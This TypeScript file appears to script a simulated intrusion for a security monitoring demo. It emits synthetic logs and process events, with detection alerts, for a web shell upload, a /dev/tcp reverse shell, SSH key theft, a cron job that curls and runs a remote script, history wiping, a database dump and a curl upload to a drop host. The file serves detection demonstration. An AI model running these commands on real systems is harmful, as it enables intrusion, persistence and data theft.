import type { Episode, Stage } from '../../../scripts/demo/recording/episode.ts';
import type { LinuxActor } from '../../../scripts/demo/recording/linux-actor.ts';
import type { LinuxProcess } from '../../../scripts/demo/recording/linux-machine.ts';

const attacker = '198.51.100.73';
const dropPoint = '203.0.113.201';
const upload = '/var/www/portal/upload/2024/board_img.php';

/** A file upload that takes PHP becomes a shell on the web server, and a stolen key the way into the database host. */
export const attackWebshell: Episode = {
  id: 'attack-webshell-to-database',
  kind: 'attack',
  title: { ko: '웹셸에서 데이터베이스 유출까지', en: 'Web shell to database theft' },
  play(stage) {
    const web = stage.linux('gd-web-01');
    const shell = breakIn(stage, web);
    stage.scene.wait(240);
    lookAround(stage, web, shell);
    stage.scene.wait(300);
    stay(stage, web, shell);
    stage.scene.wait(560);
    const session = crossOver(stage, web, shell);
    stage.scene.wait(330);
    takeData(stage, session);
  },
};

function request({ scene }: Stage, web: LinuxActor, words: string): void {
  web.syslog({
    facility: 'local0',
    program: 'nginx',
    message: `${attacker} - - ${words} "-" "python-requests/2.31.0"`,
  });
  scene.wait(1);
}

function breakIn(stage: Stage, web: LinuxActor): LinuxProcess {
  const { scene } = stage;
  const php = web.running('php');
  request(stage, web, '"GET /board/write.php HTTP/1.1" 200 8112');
  scene.wait(7);
  request(stage, web, '"POST /board/upload.php HTTP/1.1" 200 61');
  web.writeFile(php, upload);
  scene.wait(5);
  request(stage, web, '"GET /upload/2024/board_img.php?c=id HTTP/1.1" 200 54');
  const probe = web.start({
    parent: php,
    executable: '/usr/bin/dash',
    commandLine: 'sh -c id;uname -a',
    alert: 'Web or application server starts a shell',
    workingDirectory: '/var/www/portal/upload/2024',
  });
  web.start({ parent: probe, executable: '/usr/bin/id', commandLine: 'id' });
  web.start({ parent: probe, executable: '/usr/bin/uname', commandLine: 'uname -a' });
  scene.wait(21);
  request(stage, web, '"POST /upload/2024/board_img.php HTTP/1.1" 504 0');
  const shell = web.start({
    parent: php,
    executable: '/usr/bin/dash',
    commandLine: `sh -c exec bash -i >& /dev/tcp/${attacker}/4443 0>&1`,
    workingDirectory: '/var/www/portal/upload/2024',
    alert: 'One-line reverse shell',
  });
  const interactive = web.start({ parent: shell, executable: '/usr/bin/bash', commandLine: 'bash -i' });
  web.connect(interactive, { ip: attacker, port: 4443, alert: 'Shell or temporary program connects to the internet' });
  return interactive;
}

function lookAround({ scene }: Stage, web: LinuxActor, shell: LinuxProcess): void {
  const commands: [string, string, string?][] = [
    ['/usr/bin/whoami', 'whoami'],
    ['/usr/bin/cat', 'cat /etc/passwd'],
    ['/usr/bin/ps', 'ps -ef --forest'],
    ['/usr/bin/ss', 'ss -tnlp'],
    ['/usr/bin/cat', 'cat /var/www/portal/config/database.php'],
    ['/usr/bin/find', 'find / -name id_* -path */.ssh/* -readable'],
    ['/usr/bin/cat', 'cat /home/portal/.ssh/id_ed25519', 'Password file read or copied by a command'],
  ];
  for (const [executable, commandLine, alert] of commands) {
    web.start({ parent: shell, executable, commandLine, alert });
    scene.wait(scene.random.between(3, 9));
  }
}

function stay({ scene }: Stage, web: LinuxActor, shell: LinuxProcess): void {
  const line = `17 * * * * curl -fsS http://${attacker}:8081/u.sh | bash`;
  const adding = web.start({
    parent: shell,
    executable: '/usr/bin/bash',
    commandLine: `bash -c (crontab -l; echo "${line}") | crontab -`,
    alert: 'Scheduled job added',
  });
  web.start({ parent: adding, executable: '/usr/bin/crontab', commandLine: 'crontab -l' });
  const table = web.start({ parent: adding, executable: '/usr/bin/crontab', commandLine: 'crontab -' });
  web.writeFile(table, '/var/spool/cron/crontabs/www-data');
  web.syslog({ facility: 'cron', program: 'crontab', pid: table.pid, message: '(www-data) REPLACE (www-data)' });
  scene.wait(9);
  web.start({ parent: shell, executable: '/usr/bin/crontab', commandLine: 'crontab -l' });
}

function crossOver(stage: Stage, web: LinuxActor, shell: LinuxProcess): { database: LinuxActor; shell: LinuxProcess } {
  const { scene } = stage;
  const database = stage.linux('gd-db-01');
  const ssh = web.start({
    parent: shell,
    executable: '/usr/bin/ssh',
    commandLine: 'ssh -o StrictHostKeyChecking=no -i /home/portal/.ssh/id_ed25519 portal@10.20.30.21',
  });
  web.connect(ssh, { ip: '10.20.30.21', port: 22 });
  const session = database.sshLogin({ user: 'portal', fromIp: web.machine.facts.ip });
  const remote = database.start({
    parent: session,
    executable: '/usr/bin/bash',
    commandLine: '-bash',
    user: 'portal',
    workingDirectory: '/home/portal',
  });
  scene.wait(6);
  const look = (executable: string, commandLine: string) => {
    database.start({ parent: remote, executable, commandLine });
    scene.wait(scene.random.between(2, 6));
  };
  look('/usr/bin/id', 'id');
  look('/usr/bin/sudo', 'sudo -n -l');
  look('/usr/bin/ss', 'ss -tnlp');
  look('/usr/bin/find', 'find / -name *.sql -size +1M');
  look('/usr/bin/cat', 'cat /etc/passwd /etc/hosts');
  database.start({
    parent: remote,
    executable: '/usr/bin/ln',
    commandLine: 'ln -sf /dev/null /home/portal/.bash_history',
    alert: 'Logs or shell history removed',
  });
  return { database, shell: remote };
}

function takeData({ scene }: Stage, { database, shell }: { database: LinuxActor; shell: LinuxProcess }): void {
  const dump = database.start({
    parent: shell,
    executable: '/usr/bin/pg_dump',
    commandLine: 'pg_dump -h 127.0.0.1 -U portal -Fc portal -f /home/portal/.cache/p.dump',
  });
  database.writeFile(dump, '/home/portal/.cache/p.dump');
  scene.wait(28);
  const tar = database.start({
    parent: shell,
    executable: '/usr/bin/tar',
    commandLine: 'tar czf /home/portal/.cache/c.tgz /home/portal/.cache/p.dump /srv/share/contracts',
  });
  database.writeFile(tar, '/home/portal/.cache/c.tgz');
  scene.wait(19);
  const curl = database.start({
    parent: shell,
    executable: '/usr/bin/curl',
    commandLine: `curl -s -k -T /home/portal/.cache/c.tgz https://${dropPoint}/up/`,
    alert: 'File sent out by command',
  });
  database.connect(curl, { ip: dropPoint, port: 443 });
  scene.wait(14);
  database.start({
    parent: shell,
    executable: '/usr/bin/rm',
    commandLine: 'rm -f /home/portal/.cache/p.dump /home/portal/.cache/c.tgz',
  });
  database.deleteFile(shell, '/home/portal/.cache/c.tgz');
}
